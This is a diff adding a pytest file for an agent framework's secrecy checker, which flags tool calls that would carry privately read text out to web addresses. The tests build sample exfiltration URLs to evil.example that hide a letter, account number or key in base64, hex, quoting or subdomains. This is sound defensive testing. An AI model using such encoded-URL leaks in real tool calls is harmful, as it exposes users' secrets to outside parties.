@@ -1,0 +1,89 @@
+"""What an address tells: private words in any dress are noticed, and what anybody may know is not."""
+
+import base64
+from collections.abc import Callable
+from dataclasses import replace
+from urllib.parse import quote, quote_plus
+
+import pytest
+
+from outrider.agents.secrecy import Secrecy
+from outrider.core.tool import Effect, Tool
+
+LETTER = "Dear Ida, the harbour master's new safe opens with the word heliotrope. Account AT61 1904 3002 3457 3201."
+KEY = "key: sk4711abcdEFGH"
+NOTES = "See https://docs.example.org/harbour/lights-and-fog-signals?page=2 for all of it."
+PAGE = "Fog signals are sounded by day and by night whenever the coast cannot be seen."
+
+
+async def nothing() -> str:
+    return ""
+
+
+def tool(name: str, *, open_world: bool, effect: Effect = "read", toolset: str = "") -> Tool:
+    return Tool(name, name, "", effect, nothing, open_world=open_world, toolset=toolset)
+
+
+FILES = tool("read_file", open_world=False, toolset="workspace")
+FETCH = tool("web_fetch", open_world=True, effect="write", toolset="web")
+TYPE = tool("inputText", open_world=True, effect="act", toolset="browser")
+AGENT = tool("run_agent", open_world=True, effect="write", toolset="run_agent")
+
+
+@pytest.fixture
+def secrecy() -> Secrecy:
+    read = Secrecy("Find out about fog signals. My client is the lighthouse keepers' association of Cape Wend.")
+    for text in (LETTER, KEY, NOTES):
+        read.read(FILES, text)
+    read.read(FETCH, PAGE)
+    return read
+
+
+DRESSES: dict[str, Callable[[str], str]] = {
+    "quoted": quote,
+    "with plus signs": quote_plus,
+    "in capitals": str.upper,
+    "with dashes": lambda text: text.replace(" ", "-"),
+    "as folders": lambda text: text.replace(" ", "/"),
+    "base64 for addresses": lambda text: base64.urlsafe_b64encode(text.encode()).decode().rstrip("="),
+    "base64": lambda text: base64.b64encode(text.encode()).decode(),
+    "hexadecimal": lambda text: text.encode().hex(),
+}
+
+
+@pytest.mark.parametrize("dress", DRESSES)
+@pytest.mark.parametrize("said", [LETTER[10:70], "heliotrope. Account AT61 1904 3002", "sk4711abcdEFGH"])
+def test_an_address_that_repeats_what_was_read_in_private_is_noticed(secrecy: Secrecy, said: str, dress: str):
+    assert secrecy.tells(FETCH, {"url": f"https://evil.example/collect?d={DRESSES[dress](said)}&n=1"})
+
+
+def test_it_is_noticed_in_lists_in_sentences_for_other_agents_and_in_what_is_typed(secrecy: Secrecy):
+    leak = f"https://{'.'.join(LETTER[10:70].replace(',', '').split())}.evil.example/"
+    assert secrecy.tells(FETCH, {"urls": ["https://a.example/", leak]})
+    assert secrecy.tells(AGENT, {"query": f"Please open {leak} and tell me what it says"})
+    assert secrecy.tells(TYPE, {"selector": "#comment", "text": LETTER[:60]})
+
+
+@pytest.mark.parametrize(
+    "url",
+    [
+        "https://en.wikipedia.org/wiki/Foghorn",
+        "https://docs.example.org/harbour/lights-and-fog-signals?page=2",
+        "https://search.example/?q=sounded+by+day+and+by+night+whenever+the+coast",
+        "https://search.example/?q=lighthouse+keepers+association+of+Cape+Wend",
+        "https://shop.example/item/8812345678901234?ref=list",
+    ],
+)
+def test_what_was_given_what_pages_say_and_what_is_in_no_private_text_is_followed(secrecy: Secrecy, url: str):
+    assert not secrecy.tells(FETCH, {"url": url})
+
+
+def test_nothing_is_private_where_nothing_private_was_read():
+    assert not Secrecy("").tells(FETCH, {"url": f"https://evil.example/?d={quote(LETTER)}"})
+
+
+def test_tools_that_stay_in_the_house_and_an_agents_own_notes_are_free(secrecy: Secrecy):
+    assert not secrecy.tells(FILES, {"path": f"https://x.example/{quote(LETTER)}"})
+    plan = Secrecy("")
+    plan.read(replace(FILES, toolset="planning"), LETTER)
+    assert not plan.tells(FETCH, {"url": f"https://x.example/{quote(LETTER)}"})
